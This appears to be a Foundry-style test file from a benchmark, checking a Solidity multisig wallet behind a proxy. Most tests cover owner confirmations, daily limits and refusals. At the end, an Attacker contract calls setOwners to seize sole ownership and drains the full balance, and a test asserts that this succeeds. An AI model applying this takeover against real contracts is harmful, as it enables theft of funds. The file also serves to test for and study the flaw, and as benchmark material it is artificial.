pragma solidity 0.5.17;

import "./MultisigLogic.sol";

// assay-canary-17a3e913-e82e-4c43-b583-df2ba4499cc3

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANA = address(0x11A);
    address constant BEN = address(0x11B);
    address constant CLA = address(0x11C);
    uint256 constant HELD = 153037 ether;

    MultisigLogic internal wallet;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1500000000);
        address[] memory first = new address[](3);
        first[0] = ANA;
        first[1] = BEN;
        first[2] = CLA;
        vm.deal(address(this), HELD);
        MultisigWallet built = new MultisigWallet(address(new MultisigLogic()), first, 2, 10 ether);
        (bool ok, ) = address(built).call.value(HELD)("");
        require(ok, "funded");
        wallet = MultisigLogic(address(built));
        mallory = new Attacker(wallet);
    }

    function test_Regular() public {
        require(wallet.ownerCount() == 3 && wallet.required() == 2 && wallet.isOwner(BEN), "initialized");
        address payable shop = address(0x5409);
        (bool ok, ) = address(wallet).call(abi.encodeWithSignature("execute(address,uint256,bytes)", shop, 1, ""));
        require(!ok, "stranger");
        vm.prank(ANA);
        require(wallet.execute(shop, 6 ether, "") == 0 && shop.balance == 6 ether, "alone");
        vm.prank(ANA);
        uint256 id = wallet.execute(shop, 6 ether, "");
        require(id == 1 && shop.balance == 6 ether, "waits");
        vm.prank(ANA);
        (ok, ) = address(wallet).call(abi.encodeWithSignature("confirm(uint256)", id));
        require(!ok, "twice by one");
        vm.prank(CLA);
        wallet.confirm(id);
        require(shop.balance == 12 ether, "confirmed");
        vm.warp(1500000000 + 1 days);
        vm.prank(BEN);
        require(wallet.execute(shop, 10 ether, "") == 0, "next day");

        // the owners raise the limit, and one of them leaves
        vm.prank(BEN);
        id = wallet.execute(payable_(address(wallet)), 0, abi.encodeWithSignature("setDayLimit(uint256)", 50 ether));
        vm.prank(CLA);
        wallet.confirm(id);
        require(wallet.dayLimit() == 50 ether, "limit");
        address[] memory next = new address[](2);
        next[0] = CLA;
        next[1] = BEN;
        vm.prank(ANA);
        uint256 open = wallet.execute(shop, 60 ether, "");
        vm.prank(BEN);
        id = wallet.execute(payable_(address(wallet)), 0, abi.encodeWithSignature("setOwners(address[],uint256)", next, 1));
        vm.prank(CLA);
        wallet.confirm(id);
        vm.prank(CLA);
        (ok, ) = address(wallet).call(abi.encodeWithSignature("confirm(uint256)", open));
        require(!ok, "void");
        require(!wallet.isOwner(ANA) && wallet.required() == 1 && wallet.ownerCount() == 2, "replaced");

        (ok, ) = address(wallet).call(
            abi.encodeWithSignature("initialize(address[],uint256,uint256)", next, uint256(1), uint256(0))
        );
        require(!ok, "initialized twice");
        (ok, ) = address(wallet).call(abi.encodeWithSignature("setDayLimit(uint256)", uint256(1)));
        require(!ok, "limit by a stranger");
    }

    function payable_(address account) private pure returns (address payable) {
        return address(uint160(account));
    }

    // What is refused, each from the state after setUp().

    function test_RefusesToInitializeTwice() public {
        vm.prank(address(wallet));
        vm.expectRevert("already initialized");
        wallet.initialize(two(ANA, BEN), 1, 0);
    }

    function test_RefusesOwnersThatDoNotFit() public {
        refusesOwners(two(ANA, BEN), 0, "bad requirement");
        refusesOwners(two(ANA, BEN), 3, "bad requirement");
        refusesOwners(two(ANA, address(0)), 1, "bad owner");
        refusesOwners(two(ANA, ANA), 1, "bad owner");
        MultisigLogic code = new MultisigLogic();
        vm.expectRevert("initialization failed");
        new MultisigWallet(address(code), two(ANA, ANA), 1, 0);
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        uint256 id = wallet.execute(address(0x5409), 20 ether, "");
        vm.prank(address(0x57));
        vm.expectRevert("not an owner");
        wallet.confirm(id);
    }

    function test_RefusesOtherStrangers() public {
        vm.expectRevert("not an owner");
        wallet.execute(address(0x5409), 1, "");
        vm.expectRevert("not the wallet");
        wallet.setDayLimit(1);
        vm.prank(ANA);
        vm.expectRevert("not the wallet");
        wallet.setDayLimit(1);
    }

    function test_RefusesSecondConfirmations() public {
        vm.prank(ANA);
        uint256 id = wallet.execute(address(0x5409), 20 ether, "");
        vm.prank(ANA);
        vm.expectRevert("already confirmed");
        wallet.confirm(id);
        vm.prank(BEN);
        wallet.confirm(id);
        vm.prank(CLA);
        vm.expectRevert("no such transaction");
        wallet.confirm(id);
    }

    function test_RefusesTransactions() public {
        vm.prank(ANA);
        vm.expectRevert("no such transaction");
        wallet.execute(address(0), 20 ether, "");
    }

    function test_RefusesPaymentsThatFail() public {
        vm.prank(ANA);
        vm.expectRevert("call failed");
        wallet.execute(payable_(address(this)), 1 ether, "");
    }

    /// What the wallet itself may do with its owners, by a transaction of two of them, and may not.
    function refusesOwners(address[] memory next, uint256 need, bytes memory reason) private {
        vm.prank(address(wallet));
        vm.expectRevert(reason);
        wallet.setOwners(next, need);
    }

    function two(address one, address other) private pure returns (address[] memory list) {
        list = new address[](2);
        list[0] = one;
        list[1] = other;
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + HELD, "nothing gained");
    }

    function target() public view returns (address) {
        return address(wallet);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Becomes the only owner, then takes everything.
contract Attacker {
    MultisigLogic internal wallet;

    constructor(MultisigLogic wallet_) public {
        wallet = wallet_;
    }

    function () external payable {}

    function run() external {
        address[] memory me = new address[](1);
        me[0] = address(this);
        wallet.setOwners(me, 1);
        wallet.execute(address(this), address(wallet).balance, "");
    }
}
